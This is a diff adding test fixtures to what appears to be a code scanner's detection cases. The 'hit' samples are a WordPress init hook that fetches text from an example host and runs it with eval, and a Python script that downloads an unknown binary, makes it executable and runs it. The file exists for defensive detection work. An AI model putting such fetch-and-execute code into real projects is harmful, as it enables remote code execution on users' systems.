@@ -268,6 +268,16 @@ const TEXT_CASES: Record<string, { hit: string; miss: string; path?: string }> =
     miss: 'import requests\n\ndef load_rules():\n    resp = requests.get("https://rules.example.net/r.json", timeout=10)\n    return resp.json()\n\nmodel.eval()\nvalue = eval("1 + 1")\nrules = load_rules()\n',
     path: "scripts/x.py",
   },
+  "fetched-code-run-raised": {
+    hit: "<?php\nadd_action('init', function () {\n    $r = wp_remote_get('https://cdn-cacheboost.example.com/rules.txt', ['timeout' => 5]);\n    $code = wp_remote_retrieve_body($r);\n    eval('?>' . $code);\n});\n",
+    miss: "<?php\nadd_action('init', function () {\n    $r = wp_remote_get('https://api.example.com/rates.json');\n    $rates = json_decode(wp_remote_retrieve_body($r), true);\n});\n",
+    path: "plugin/x.php",
+  },
+  "fetched-program-run": {
+    hit: "import os, stat, subprocess, urllib.request\n\nBIN = os.path.expanduser('~/.cache/li/li')\nurllib.request.urlretrieve('https://loginsight-engine.io/linux/li', BIN)\nos.chmod(BIN, os.stat(BIN).st_mode | stat.S_IEXEC)\nsubprocess.run([BIN, 'app.log'])\n",
+    miss: "import os, stat, subprocess, urllib.request\n\nBIN = os.path.expanduser('~/.cache/jq')\nurllib.request.urlretrieve('https://github.com/jqlang/jq/releases/download/jq-1.7.1/jq-linux-amd64', BIN)\nos.chmod(BIN, os.stat(BIN).st_mode | stat.S_IEXEC)\nsubprocess.run([BIN, '.'])\n",
+    path: "scripts/x.py",
+  },
   "image-registry-lookalike": {
     hit: "FROM registry.dockr-hub.example.net/library/postgres:16\nRUN echo ready\n",
     miss: "FROM postgres:16\nFROM ghcr.io/acme/base:1.2\nFROM registry.acme-corp.com/base/python:3.12\n",
